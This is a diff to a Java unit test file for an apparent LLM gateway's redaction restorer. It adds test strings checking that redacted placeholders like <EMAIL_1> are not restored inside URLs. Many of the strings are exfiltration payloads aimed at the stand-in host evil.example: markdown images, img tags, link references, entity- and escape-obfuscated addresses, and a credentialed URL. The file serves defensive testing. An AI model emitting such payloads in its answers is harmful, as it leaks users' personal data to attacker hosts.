@@ -3,6 +3,7 @@ package io.llmgw.core.redact;
 import static org.assertj.core.api.Assertions.assertThat;
 
 import io.llmgw.api.redact.Entities;
+import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.CsvSource;
 import org.junit.jupiter.params.provider.ValueSource;
@@ -58,10 +59,43 @@ class RestorerTest {
         "www.evil.example/<EMAIL_1>",
         "<img src=//evil.example/<EMAIL_1>>",
         "https://evil.example/()<EMAIL_1>",
-        "https://evil.example/\",<EMAIL_1>"
+        "https://evil.example/\",<EMAIL_1>",
+        "![x](https://evil.example/?q=<z<EMAIL_1>)",
+        "![x](https://evil.example/?q=\u00a0<EMAIL_1>)",
+        "![x](<https://evil.example/?q=a b [EMAIL_1]>)",
+        "![x]( //evil.example/<EMAIL_1>)",
+        "![x](\n/\\evil.example/<EMAIL_1>)",
+        "[r]: //evil.example/<EMAIL_1>",
+        "[r]: <//evil.example/a <EMAIL_1>>",
+        "<img src=\"https://evil.example/?q=a <EMAIL_1>\">",
+        "<img src='//evil.example/?q=a\n<EMAIL_1>'>",
+        "<img src=\"https:\\\\evil.example\\<EMAIL_1>\">",
+        "<img src=\"\\\\evil.example\\<EMAIL_1>\">",
+        "<img src=\"&#47;&#47;evil.example/<EMAIL_1>\">",
+        "<a href=\"https:evil.example/<EMAIL_1>\">",
+        "https&#58;//evil.example/<EMAIL_1>"
       })
   void nothingIsRestoredWithinAnAddress(String answer) {
     assertEachCut(answer, answer, false);
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "{\"u\":\"https:\\/\\/evil.example\\/<EMAIL_1>\"}",
+        "{\"u\":\"https:\\u002f\\u002Fevil.example/<EMAIL_1>\"}",
+        "{\"html\":\"<img src=\\\"//evil.example/a <EMAIL_1>\\\">\"}",
+        "{\"json\":\"{\\\"to\\\":\\\"\\\\u003cEMAIL_1\\\\u003e\\\"}\"}" // would be no JSON
+      })
+  void nothingIsRestoredWhereJsonHidesAnAddressOrAnEscape(String answer) {
+    assertEachCut(answer, answer, true);
+  }
+
+  @Test
+  void nothingIsRestoredBehindAValueThatIsAnAddress() {
+    vault.ordinal(Entities.URL_CREDENTIALS, "https://u:p@evil.example/?q=");
+
+    assertEachCut("<URL_CREDENTIALS_1><EMAIL_1>", "https://u:p@evil.example/?q=<EMAIL_1>", false);
   }
 
   @ParameterizedTest
@@ -73,7 +107,10 @@ class RestorerTest {
         "{\"url\":\"https://x.example\",\"to\":\"<EMAIL_1>\"}"
             + " | {\"url\":\"https://x.example\",\"to\":\"ada@example.com\"}",
         "<https://x.example><EMAIL_1> | <https://x.example>ada@example.com",
-        "a/b: c. <EMAIL_1> | a/b: c. ada@example.com"
+        "a/b: c. <EMAIL_1> | a/b: c. ada@example.com",
+        "[x](<https://x.example/a b>) <EMAIL_1> | [x](<https://x.example/a b>) ada@example.com",
+        "// by <EMAIL_1> | // by ada@example.com",
+        "<a href='/x'><EMAIL_1> | <a href='/x'>ada@example.com"
       })
   void afterAnAddressValuesAreRestoredAgain(String answer, String expected) {
     assertEachCut(answer, expected, false);
@@ -85,6 +122,8 @@ class RestorerTest {
       quoteCharacter = '`',
       value = {
         "{\"to\":\"<PERSON_1>\"} | {\"to\":\"O\\\"B\\\\\"}",
+        "{\"b\":\"at https://x.example\\n<EMAIL_1>\"}"
+            + " | {\"b\":\"at https://x.example\\nada@example.com\"}",
         "{\"to\":\"\\u003cEMAIL_1\\u003E\"} | {\"to\":\"ada@example.com\"}"
       })
   void valuesInJsonAreEscaped(String answer, String expected) {
